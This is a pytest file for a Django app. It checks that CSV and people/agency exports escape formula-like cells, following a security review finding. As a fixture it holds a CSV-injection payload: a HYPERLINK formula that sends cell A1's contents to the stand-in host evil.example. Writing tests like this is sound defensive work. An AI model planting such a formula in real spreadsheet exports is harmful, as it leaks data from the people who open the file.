"""CSV exports never hand a spreadsheet program a formula: a cell that starts like one is
written as text, by the same rule as the XLSX exports (security review, issue 13, finding 11)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from bmnn.core.documents import spreadsheet_text
from bmnn.org.models import Role

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HOSTILE])
def test_formula_like_text_is_written_as_text(value) -> None:
    assert spreadsheet_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "", 12, None, "a=b"])
def test_ordinary_values_are_left_alone(value) -> None:
    assert spreadsheet_text(value) == value


def test_people_export_writes_a_formula_in_a_name_as_text(make_agency, make_person, client_for):
    agency = make_agency("Sở Tư pháp")
    officer = make_person(agency, Role.SECURITY_OFFICER, "Nguyễn Thị Hoa")
    make_person(agency, Role.STAFF, HOSTILE, position="-1+2")
    rows = _rows(client_for(officer).get(reverse("org:person_export")))
    names = [row[1] for row in rows[1:]]
    assert "'" + HOSTILE in names
    assert HOSTILE not in names
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_agency_export_writes_a_formula_in_a_name_as_text(make_agency, make_person, client_for):
    agency = make_agency(HOSTILE, short_name="@cmd")
    officer = make_person(agency, Role.SECURITY_OFFICER, "=Nguyễn Thị Hoa")
    rows = _rows(client_for(officer).get(reverse("org:agency_export")))
    assert rows[1][1] == "'" + HOSTILE
    assert rows[1][2] == "'@cmd"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
